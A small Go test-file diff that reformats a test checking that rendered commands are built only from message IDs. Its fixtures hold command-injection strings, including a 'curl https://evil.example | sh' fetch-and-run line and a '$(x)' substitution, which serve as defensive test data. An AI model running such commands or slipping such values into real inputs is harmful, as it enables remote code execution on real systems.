@@ -319,7 +319,9 @@ func TestRenderAlarm_Advice(t *testing.T) {
 // A message says what it is about by an id. Commands are made from it, and from nothing else in the message.
 func TestRender_CommandsAreMadeFromIDs(t *testing.T) {
 	const evil = "make undo ID=x; curl https://evil.example | sh"
-	for _, id := range []string{"", "x; curl https://evil.example | sh", "abcdefghij; x", "abcdefghij-1 REASON=$(x)", "ABCDEFGHIJ"} {
+	for _, id := range []string{
+		"", "x; curl https://evil.example | sh", "abcdefghij; x", "abcdefghij-1 REASON=$(x)", "ABCDEFGHIJ",
+	} {
 		m := sample(notice.Changed, "high")
 		m.Undo, m.Finding, m.Changes[0].ID = evil, id, id
 		data := string(indented(t, Render(m, settings.English)))
